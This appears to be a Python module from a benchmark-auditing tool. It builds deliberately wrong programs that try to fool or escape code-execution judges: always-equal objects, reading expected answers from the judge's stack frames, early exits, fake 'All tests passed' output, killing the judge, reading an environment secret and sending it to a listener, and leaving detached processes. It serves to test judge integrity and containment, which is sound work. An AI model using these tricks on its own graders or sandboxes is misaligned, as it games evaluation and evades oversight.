"""The three sets a judge is shown: the hostile catalogue, the reference solutions, recorded outputs.

The hostile catalogue is the judge-side counterpart of ``sandbox/attacks.py`` (containment) and
``sandbox/forgery.py`` (verdict integrity), rewritten for judges that are not ra3bench: every
program is wrong (it never computes the answer), and each tries one way to be scored right anyway
or to reach the machine the judge runs on. Programs are templates with markers (``__ENTRY__``,
``__TOKEN__``, ``__PORT__``, ``__FILE__``, ``__SECRET_VAR__``) filled per item, so each item's
host file, listener message and processes carry a token of its own and are told apart from
outside. The function form serves HumanEval+/MBPP+-style problems, the stdin form
Codeforces/LiveCodeBench-style ones.
"""

from __future__ import annotations

import gzip
import json
import random
import uuid
from dataclasses import dataclass
from pathlib import Path

from ra3bench.audit.base import FUNCTION, STDIN, Item
from ra3bench.sandbox.attacks import ENV_SECRET_VAR

VERDICT, CONTAINMENT = "verdict integrity", "containment"
WRONG = "ra3bench-audit-wrong"  # what a containment attack prints: matches no expected output


@dataclass(frozen=True)
class JudgeAttack:
    """One hostile program, in the forms it exists in (None: not meaningful for that form)."""

    name: str
    kind: str  # VERDICT | CONTAINMENT
    function: str | None  # a module defining __ENTRY__
    stdin: str | None  # a whole program reading stdin


def _fn(body: str, prelude: str = "") -> str:
    return prelude + "def __ENTRY__(*args, **kwargs):\n" + body


def _main(action: str) -> str:
    """A stdin program: run the attack's ``_attack()``, then print a wrong answer."""
    return action + f"_attack()\nprint({WRONG!r})\n"


# The containment half: each defines _attack(), which does its thing and returns nothing useful.
_CONNECT = """\
import os, socket
def _attack():
    try:
        with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:
            s.sendall(b'__TOKEN__ connected')
    except Exception:
        pass
"""
_WRITE = """\
def _attack():
    try:
        with open('__FILE__', 'w') as out:
            out.write('__TOKEN__ wrote a host file')
    except Exception:
        pass
"""
_SECRET = """\
import os, socket
def _attack():
    found = os.environ.get('__SECRET_VAR__', '')
    for pid in ('self', 'parent'):
        try:
            pid = os.getppid() if pid == 'parent' else pid
            for entry in open(f'/proc/{pid}/environ', 'rb').read().split(b'\\0'):
                if entry.startswith(b'__SECRET_VAR__='):
                    found = found or entry.split(b'=', 1)[1].decode()
        except Exception:
            pass
    message = '__TOKEN__ secret=' + found
    try:
        with open('__FILE__', 'w') as out:
            out.write(message)
    except Exception:
        pass
    try:
        with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:
            s.sendall(message.encode())
    except Exception:
        pass
"""
_LEAVE = """\
import os, sys
KEEP = 'import signal, time; signal.signal(1, signal.SIG_IGN); signal.signal(15, signal.SIG_IGN); time.sleep(600)'
def _attack():
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, '-c', KEEP, '__TOKEN__'])
        finally:
            os._exit(0)
    import time
    time.sleep(0.5)
"""
_KILL_PARENT = "import os, time\ndef _attack():\n    os.kill(os.getppid(), 9)\n    time.sleep(1)\n"
_KILL_GROUP = "import os, time\ndef _attack():\n    os.killpg(0, 9)\n    time.sleep(1)\n"


def _contained(action: str) -> tuple[str, str]:
    return _fn("    _attack()\n    return None\n", action), _main(action)


_ALWAYS_EQUAL = """\
class _Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
"""
# The judge's expected outputs, found in its own frames (an in-process judge keeps them on the stack).
_FRAMES = """\
import sys
def _expected():
    f = sys._getframe(2)
    while f is not None:
        loc = f.f_locals
        for name in ('expected', 'expected_output', 'outputs', 'exp', 'results'):
            seq = loc.get(name)
            for index in ('i', 'index', 'idx', 'k', 'j'):
                if isinstance(seq, (list, tuple)) and isinstance(loc.get(index), int) and loc[index] < len(seq):
                    return seq[loc[index]]
        f = f.f_back
    return None
"""

ATTACKS: list[JudgeAttack] = [
    # the judge killers first: a judge they kill fails its batch at once (then every attack runs alone)
    JudgeAttack("kill the judge: os.kill(os.getppid(), 9)", CONTAINMENT, *_contained(_KILL_PARENT)),
    JudgeAttack("kill the judge's process group: os.killpg(0, 9)", CONTAINMENT, *_contained(_KILL_GROUP)),
    JudgeAttack("control: a plain wrong answer", VERDICT, _fn("    return None\n"), f"print({WRONG!r})\n"),
    JudgeAttack("always-equal object (__eq__ says yes)", VERDICT, _fn("    return _Yes()\n", _ALWAYS_EQUAL), None),
    JudgeAttack(
        "read the expected output from the judge's frames", VERDICT, _fn("    return _expected()\n", _FRAMES), None
    ),
    JudgeAttack(
        "exit 0 before the tests run (sys.exit at import)",
        VERDICT,
        _fn("    return None\n") + "import sys\nsys.exit(0)\n",
        "import sys\nsys.exit(0)\n",
    ),
    JudgeAttack(
        "os._exit(0) in the first call",
        VERDICT,
        _fn("    import os\n    os._exit(0)\n"),
        "import os\nos._exit(0)\n",
    ),
    JudgeAttack("no output at all (a truncated answer)", VERDICT, None, "pass\n"),
    JudgeAttack(
        "print a fake success report",
        VERDICT,
        _fn("    print('All tests passed\\nPASSED\\nOK')\n    return None\n"),
        "print('All tests passed')\nprint('PASSED')\n",
    ),
    JudgeAttack(
        "endless loop (the judge must time out)",
        VERDICT,
        _fn("    while True:\n        pass\n"),
        "while True:\n    pass\n",
    ),
    JudgeAttack("network: connect to a host loopback listener", CONTAINMENT, *_contained(_CONNECT)),
    JudgeAttack("host file: write under /tmp", CONTAINMENT, *_contained(_WRITE)),
    JudgeAttack("environment: read the caller's secret and send it out", CONTAINMENT, *_contained(_SECRET)),
    JudgeAttack("process left behind: setsid + double fork", CONTAINMENT, *_contained(_LEAVE)),
]


def attack_items(suite: str, task_id: str, form: str, entry_point: str, port: int, host_dir: Path) -> list[Item]:
    """Every attack that exists in ``form``, filled in for one problem; each with its own token."""
    items = []
    for attack in ATTACKS:
        template = attack.function if form == FUNCTION else attack.stdin
        if template is None:
            continue
        token = "ra3a" + uuid.uuid4().hex[:10]
        program = (
            template.replace("__ENTRY__", entry_point)
            .replace("__TOKEN__", token)
            .replace("__PORT__", str(port))
            .replace("__FILE__", str(host_dir / f".ra3bench-audit-{token}"))
            .replace("__SECRET_VAR__", ENV_SECRET_VAR)
        )
        items.append(Item(attack.name, task_id, suite, form, program, token))
    return items


def kind_of(case: str) -> str:
    return next((a.kind for a in ATTACKS if a.name == case), "")


def reference_items(suite: str, problems: list, form: str) -> list[Item]:
    """The suite's reference solutions (a sound judge passes every one); none for suites without."""
    return [Item("reference", p.task_id, suite, form, p.reference) for p in problems if p.reference]


def recorded_items(data_dir: Path, suite: str, known: set[str], n: int, seed: int = 0) -> list[Item]:
    """``n`` real model outputs from the evalplus runs under ``data_dir/samples`` (HumanEval+ only), seeded."""
    if suite != "humaneval+" or n <= 0:
        return []
    manifest = data_dir / "samples" / "MANIFEST.jsonl"
    if not manifest.exists():
        return []
    pool: list[tuple[str, str, str]] = []
    for line in manifest.read_text().splitlines():
        row = json.loads(line)
        if not row.get("format", "").startswith("evalplus>=0.2"):
            continue
        path = data_dir.parent / row["path"] / "samples.jsonl.gz"
        if not path.exists():
            continue
        run = row["path"].split("samples/evalplus/", 1)[-1]
        with gzip.open(path, "rt") as src:
            for sample in map(json.loads, src):
                if sample.get("task_id") in known and sample.get("solution"):
                    pool.append((run, sample["task_id"], sample["solution"]))
    chosen = random.Random(seed).sample(pool, min(n, len(pool)))
    return [Item(f"{run}:{task}", task, suite, FUNCTION, solution) for run, task, solution in chosen]


__all__ = ["ATTACKS", "CONTAINMENT", "STDIN", "VERDICT", "JudgeAttack", "attack_items", "recorded_items"]
